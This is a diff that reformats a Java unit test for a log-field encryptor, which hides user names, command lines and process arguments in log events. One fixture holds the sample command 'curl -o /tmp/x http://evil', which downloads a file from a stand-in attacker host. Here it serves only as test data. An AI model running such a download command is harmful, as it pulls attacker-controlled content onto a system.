@@ -23,7 +23,8 @@ class FieldEncryptorTest {
     }
 
     private static FieldEncryptor encryptor() {
-        return new FieldEncryptor(List.of("user.name", "process.command_line"), new FieldCipher(keys), new KeyedHash(keys));
+        return new FieldEncryptor(
+                List.of("user.name", "process.command_line"), new FieldCipher(keys), new KeyedHash(keys));
     }
 
     @Test
@@ -37,10 +38,13 @@ class FieldEncryptorTest {
         encryptor().encrypt(e);
 
         assertThat(e.fields).doesNotContainKey("user.name").containsEntry("source.ip", "10.0.0.5");
-        assertThat(e.message).isEqualTo("Failed password for «user.name» from 10.0.0.5 port 22 ssh2 (alpha «user.name»)");
+        assertThat(e.message)
+                .isEqualTo("Failed password for «user.name» from 10.0.0.5 port 22 ssh2 (alpha «user.name»)");
         assertThat(e.fields.get("extra")).isEqualTo("{\"login\":\"«user.name»\"}");
-        assertThat(e.fields.get("protected.hash.user.name")).isEqualTo(new KeyedHash(keys).of(KeyedHash.FIELD_VALUES, "al"));
-        assertThat(new FieldCipher(keys).decrypt("user.name", (String) e.fields.get("protected.cipher.user.name"))).isEqualTo("al");
+        assertThat(e.fields.get("protected.hash.user.name"))
+                .isEqualTo(new KeyedHash(keys).of(KeyedHash.FIELD_VALUES, "al"));
+        assertThat(new FieldCipher(keys).decrypt("user.name", (String) e.fields.get("protected.cipher.user.name")))
+                .isEqualTo("al");
     }
 
     @Test
@@ -53,7 +57,8 @@ class FieldEncryptorTest {
         encryptor().encrypt(e);
 
         assertThat(e.message).isEqualTo("sudo: «user.name» : COMMAND=«process.command_line»");
-        assertThat(new FieldCipher(keys).decrypt("process.command_line", (String) e.fields.get("protected.cipher.process.command_line")))
+        assertThat(new FieldCipher(keys).decrypt("process.command_line", (String)
+                        e.fields.get("protected.cipher.process.command_line")))
                 .isEqualTo("/usr/bin/cat /home/bob/notes");
     }
 
@@ -62,15 +67,18 @@ class FieldEncryptorTest {
         LogEvent e = new LogEvent();
         e.message = "execve: curl -o /tmp/x http://evil";
         e.fields.put("process.args", List.of("curl", "-o", "/tmp/x", "http://evil"));
-        FieldEncryptor encryptor = new FieldEncryptor(List.of("process.args"), new FieldCipher(keys), new KeyedHash(keys));
+        FieldEncryptor encryptor =
+                new FieldEncryptor(List.of("process.args"), new FieldCipher(keys), new KeyedHash(keys));
 
         encryptor.encrypt(e);
 
         assertThat(e.fields).doesNotContainKey("process.args");
-        assertThat(e.message).isEqualTo("execve: «process.args[0]» «process.args[1]» «process.args[2]» «process.args[3]»");
+        assertThat(e.message)
+                .isEqualTo("execve: «process.args[0]» «process.args[1]» «process.args[2]» «process.args[3]»");
         @SuppressWarnings("unchecked")
         List<String> ciphers = (List<String>) e.fields.get("protected.cipher.process.args");
-        assertThat(new FieldCipher(keys).decrypt("process.args", ciphers.get(2))).isEqualTo("/tmp/x");
+        assertThat(new FieldCipher(keys).decrypt("process.args", ciphers.get(2)))
+                .isEqualTo("/tmp/x");
         @SuppressWarnings("unchecked")
         List<String> hashes = (List<String>) e.fields.get("protected.hash.process.args");
         assertThat(hashes).hasSize(4).contains(new KeyedHash(keys).of(KeyedHash.FIELD_VALUES, "curl"));
